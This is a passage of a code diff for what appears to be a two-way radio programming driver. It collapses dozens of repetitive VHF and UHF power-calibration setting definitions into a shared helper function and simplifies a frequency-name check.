-        rs = RadioSetting("vhf_high_pwr.s7", "High Rng7 (Band start + Spacing * 6)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_high_pwr.s7, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_high_pwr.s8", "High Rng8 (Band start + Spacing * 7)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_high_pwr.s8, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_high_pwr.s9", "High Rng9 (Band start + Spacing * 8)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_high_pwr.s9, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_high_pwr.s10", "High Rng10 (Band start + Spacing * 9)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_high_pwr.s10, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_high_pwr.s11", "High Rng11 (Band start + Spacing * 10)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_high_pwr.s11, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_high_pwr.s12", "High Rng12 (Band start + Spacing * 11)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_high_pwr.s12, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_high_pwr.s13", "High Rng13 (Band start + Spacing * 12)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_high_pwr.s13, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_high_pwr.s14", "High Rng14 (Band start + Spacing * 13)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_high_pwr.s14, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_high_pwr.s15", "High Rng15 (Band start + Spacing * 14)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_high_pwr.s15, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_high_pwr.s16", "High >= Rng16 (Band start + Spacing * 15)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_high_pwr.s16, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_low_pwr.s1", "Low <= Rng1 (Band start)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_low_pwr.s1, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_low_pwr.s2", "Low Rng2 (Band start + Spacing)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_low_pwr.s2, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_low_pwr.s3", "Low Rng3 (Band start + Spacing * 2)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_low_pwr.s3, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_low_pwr.s4", "Low Rng4 (Band start + Spacing * 3)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_low_pwr.s4, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_low_pwr.s5", "Low Rng5 (Band start + Spacing * 4)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_low_pwr.s5, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_low_pwr.s6", "Low Rng6 (Band start + Spacing * 5)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_low_pwr.s6, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_low_pwr.s7", "Low Rng7 (Band start + Spacing * 6)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_low_pwr.s7, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_low_pwr.s8", "Low Rng8 (Band start + Spacing * 7)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_low_pwr.s8, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_low_pwr.s9", "Low Rng9 (Band start + Spacing * 8)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_low_pwr.s9, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_low_pwr.s10", "Low Rng10 (Band start + Spacing * 9)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_low_pwr.s10, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_low_pwr.s11", "Low Rng11 (Band start + Spacing * 10)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_low_pwr.s11, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_low_pwr.s12", "Low Rng12 (Band start + Spacing * 11)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_low_pwr.s12, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_low_pwr.s13", "Low Rng13 (Band start + Spacing * 12)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_low_pwr.s13, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_low_pwr.s14", "Low Rng14 (Band start + Spacing * 13)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_low_pwr.s14, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_low_pwr.s15", "Low Rng15 (Band start + Spacing * 14)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_low_pwr.s15, 1))
-        vpwr_grp.append(rs)
-        rs = RadioSetting("vhf_low_pwr.s16", "Low >= Rng16 (Band start + Spacing * 15)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.vhf_low_pwr.s16, 1))
-        vpwr_grp.append(rs)
-
-    def _createUhfPowerSettings(self, upwr_grp):
-        rs = RadioSetting("uhf_pwr_band.freq_start", "Frequency band start",
-                          RadioSettingValueInteger(
-                              230000000, 580000000,
-                              self._memobj.uhf_pwr_band.freq_start * 10, 100000))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_pwr_band.spacing", "Band spacing in Mhz",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_pwr_band.spacing, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_high_pwr.s1", "High <= Rng1 (Band start)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_high_pwr.s1, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_high_pwr.s2", "High Rng2 (Band start + Spacing)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_high_pwr.s2, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_high_pwr.s3", "High Rng3 (Band start + Spacing * 2)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_high_pwr.s3, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_high_pwr.s4", "High Rng4 (Band start + Spacing * 3)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_high_pwr.s4, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_high_pwr.s5", "High Rng5 (Band start + Spacing * 4)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_high_pwr.s5, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_high_pwr.s6", "High Rng6 (Band start + Spacing * 5)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_high_pwr.s6, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_high_pwr.s7", "High Rng7 (Band start + Spacing * 6)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_high_pwr.s7, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_high_pwr.s8", "High Rng8 (Band start + Spacing * 7)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_high_pwr.s8, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_high_pwr.s9", "High Rng9 (Band start + Spacing * 8)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_high_pwr.s9, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_high_pwr.s10", "High Rng10 (Band start + Spacing * 9)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_high_pwr.s10, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_high_pwr.s11", "High Rng11 (Band start + Spacing * 10)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_high_pwr.s11, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_high_pwr.s12", "High Rng12 (Band start + Spacing * 11)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_high_pwr.s12, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_high_pwr.s13", "High Rng13 (Band start + Spacing * 12)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_high_pwr.s13, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_high_pwr.s14", "High Rng14 (Band start + Spacing * 13)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_high_pwr.s14, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_high_pwr.s15", "High Rng15 (Band start + Spacing * 14)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_high_pwr.s15, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_high_pwr.s16", "High >= Rng16 (Band start + Spacing * 15)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_high_pwr.s16, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_low_pwr.s1", "Low <= Rng1 (Band start)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_low_pwr.s1, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_low_pwr.s2", "Low Rng2 (Band start + Spacing)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_low_pwr.s2, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_low_pwr.s3", "Low Rng3 (Band start + Spacing * 2)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_low_pwr.s3, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_low_pwr.s4", "Low Rng4 (Band start + Spacing * 3)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_low_pwr.s4, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_low_pwr.s5", "Low Rng5 (Band start + Spacing * 4)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_low_pwr.s5, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_low_pwr.s6", "Low Rng6 (Band start + Spacing * 5)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_low_pwr.s6, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_low_pwr.s7", "Low Rng7 (Band start + Spacing * 6)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_low_pwr.s7, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_low_pwr.s8", "Low Rng8 (Band start + Spacing * 7)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_low_pwr.s8, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_low_pwr.s9", "Low Rng9 (Band start + Spacing * 8)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_low_pwr.s9, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_low_pwr.s10", "Low Rng10 (Band start + Spacing * 9)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_low_pwr.s10, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_low_pwr.s11", "Low Rng11 (Band start + Spacing * 10)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_low_pwr.s11, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_low_pwr.s12", "Low Rng12 (Band start + Spacing * 11)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_low_pwr.s12, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_low_pwr.s13", "Low Rng13 (Band start + Spacing * 12)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_low_pwr.s13, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_low_pwr.s14", "Low Rng14 (Band start + Spacing * 13)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_low_pwr.s14, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_low_pwr.s15", "Low Rng15 (Band start + Spacing * 14)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_low_pwr.s15, 1))
-        upwr_grp.append(rs)
-        rs = RadioSetting("uhf_low_pwr.s16", "Low >= Rng16 (Band start + Spacing * 15)",
-                          RadioSettingValueInteger(
-                              0, 255,
-                              self._memobj.uhf_low_pwr.s16, 1))
-        upwr_grp.append(rs)
+    def _createPowerSettings(self, pwr_grp, band, bounds):
+        # band is the prefix of the power structs, bounds the band bounding
+        # the start frequency
+        name = band + "_pwr_band"
+        _band = getattr(self._memobj, name)
+        rs = RadioSetting(name + ".freq_start", "Frequency band start",
+                          RadioSettingValueInteger(
+                              bounds[0], bounds[1],
+                              _band.freq_start * 10, 100000))
+        pwr_grp.append(rs)
+        rs = self._make_u8_setting(name + ".spacing", "Band spacing in Mhz",
+                                   _band.spacing)
+        pwr_grp.append(rs)
+        self._append_slot_group(pwr_grp, band + "_high_pwr", HIGH_PWR_LABELS)
+        self._append_slot_group(pwr_grp, band + "_low_pwr", LOW_PWR_LABELS)
 
     def _is_freq(self, element):
-        return "rxfreq" in element.get_name() \
-                or "txoffset" in element.get_name() \
-                or "rx_start" in element.get_name() \
-                or "rx_stop" in element.get_name() \
-                or "tx_start" in element.get_name() \
-                or "tx_stop" in element.get_name() \
-                or "freq_start" in element.get_name()
\ No newline at end of file
+        return element.get_name().rpartition(".")[2] in FREQ_SETTINGS
\ No newline at end of file